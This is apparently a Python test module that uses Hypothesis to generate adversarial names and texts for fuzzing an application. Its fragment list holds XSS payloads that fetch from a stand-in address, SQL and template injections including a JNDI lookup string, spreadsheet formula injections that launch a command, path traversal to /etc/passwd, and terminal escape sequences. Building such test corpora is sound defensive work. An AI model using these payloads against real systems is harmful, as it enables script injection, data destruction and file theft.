"""Names, labels, query texts and addresses as someone who means harm would choose them."""

from __future__ import annotations

import re
from contextlib import suppress
from functools import cache

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

OUTSIDE = "192.0.2.1"
"""An address of nobody (RFC 5737): a request to it left this machine because of a text."""

PULL = f"window.__hit=1;fetch('http://{OUTSIDE}/x')"

FRAGMENTS = (
    # markup
    f"<script>{PULL}</script>",
    f'<img src=http://{OUTSIDE}/a.png onerror="{PULL}">',
    f"<svg onload={PULL}>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'>",
    f"<style>@import 'http://{OUTSIDE}/x.css';</style>",
    f"<a href='javascript:{PULL}'>go</a>",
    "</textarea></title></script><b>bold</b><!--",
    "&lt;b&gt;&amp;&#60;script&#62;&#x3c;img&nbsp;&Tab;",
    # Markdown, Streamlit's directives
    f"![x](http://{OUTSIDE}/b.png)",
    f"[click](http://{OUTSIDE}/)",
    f"[ref]: http://{OUTSIDE}/\n\n[ref]",
    f"<http://{OUTSIDE}/auto>",
    f"http://{OUTSIDE}/plain www.example.com a@example.com",
    "[x](javascript:window.__hit=1)",
    "**bold** _it_ ~~gone~~ `code` ```\nblock\n```",
    "# head\n- list\n1. one\n> quote\n| a | b |\n|---|---|\n---",
    ":red[red] :material/home: :streamlit: :blue-background[x] :small[s] :badge[b] :shortcode:",
    "$x^2$ $$\\frac{a}{b}$$ \\(x\\) \\[x\\]",
    "    indented",
    "\\*escaped\\*",
    "[^1] [^1]: note",
    # templates
    "${{7*7}} {{7*7}} {% for x in y %} #{7*7} <%= 7*7 %> ${jndi:ldap://192.0.2.1/a}",
    "%{y} %{x:.2f} {0} {y!r} %s %n %(x)s",
    "%{fullData.name}<extra></extra>",
    # SQL
    "'); DROP TABLE attempt; --",
    '" OR 1=1 /*',
    "'; ATTACH 'evil.db'; INSTALL httpfs; COPY sample TO '/tmp/x'; --",
    "$start $$body$$ ? :name E'\\x00'",
    "*/ UNION SELECT * FROM duckdb_settings() --",
    # spreadsheets
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/","x")',
    "@SUM(A1:A9)",
    "+1+1",
    "-1+1",
    " =1+1",
    "\n=1+1",
    "\t=1+1",
    "\r@x",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "x;=1+1;y",
    "x\t=1+1\ty",
    "x,=1+1,y",
    'x";=1+1;"',
    "x\r\n=1+1",
    "'=1+1",
    # terminals and logs
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://192.0.2.1/\x07link\x1b]8;;\x07",
    "\x9b31m\x90q",
    "\r\nINFO warehouse.server: all is well",
    "\b\b\b\x7f\x00\x0c",
    # Unicode
    "\u202ereversed\u202c \u2066isolated\u2069 \u200f\u200e\u061c",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
    "a\u0300\u0301\u0302\u0303\u0489",
    "\U000e0041\U000e0042 \ufff9x\ufffb \u2028\u2029 \ufffe\uffff",
    "\u0130\u0131\ufb01\u212a \U0001f468\u200d\U0001f469\u200d\U0001f467",
    # paths and addresses
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd%00.png",
    "%2e%2e%5c %0d%0aSet-Cookie:%20x=1 %u202e %",
    "C:\\windows\\..\\ \\\\host\\share file:///etc/passwd",
    "http://xn--pple-43d.com/ http://\u0430pple.com http://127.0.0.1:80@192.0.2.1/",
    "//192.0.2.1/x javascript:window.__hit=1 data:text/html,<script>1</script>",
    "http://[::ffff:127.0.0.1]/ http://0x7f.1/ http://a.b.c:99999/",
    "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
)

SURROGATES = ("\ud800", "\udfff", "x\udc80y")
"""Text that no UTF-8 can hold."""

STEERS = re.compile("[\x00-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]")
"""What a terminal, a log or the order of reading obeys instead of showing it."""

_fragments = st.sampled_from(FRAGMENTS)
_any = st.text(max_size=12)
_glue = st.sampled_from(("", " ", "\n", ";", ",", '"', "'", "(", "\\", "\u200b", "x"))
_long = st.builds(lambda part, times: part * times, _fragments, st.integers(2, 60))

texts: st.SearchStrategy[str] = st.one_of(
    _fragments,
    st.builds(lambda *parts: "".join(parts), _any, _glue, _fragments, _glue, _fragments, _any),
    st.builds(lambda *parts: "".join(parts), _fragments, _glue, _any),
    st.builds(lambda *parts: "".join(parts), _fragments, _glue, _fragments, _glue, _fragments),
    _long,
    st.text(min_size=1, max_size=40),
)
"""Any of it alone, joined, repeated, and amid arbitrary text. Never a lone surrogate."""


@cache
def corpus(amount: int) -> tuple[str, ...]:
    """So many texts that differ as names too, all fragments among them; the same ones in this process."""
    found = {as_name(text): text for text in FRAGMENTS}

    @settings(
        max_examples=100 * amount,
        deadline=None,
        database=None,
        derandomize=True,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(st.lists(texts, min_size=30, max_size=30))
    def gather(some: list[str]) -> None:
        if len(found) >= amount:
            raise _EnoughError
        for text in some:
            found.setdefault(as_name(text), text)

    with suppress(_EnoughError):
        gather()
    return tuple(found.values())[:amount]


class _EnoughError(Exception):
    """The corpus is complete."""


def as_name(text: str) -> str:
    """The nearest text a record takes as a name: no C0 controls, at most 200 characters, not empty."""
    return "".join("?" if mark < " " or mark == "\x7f" else mark for mark in text)[:200] or "?"
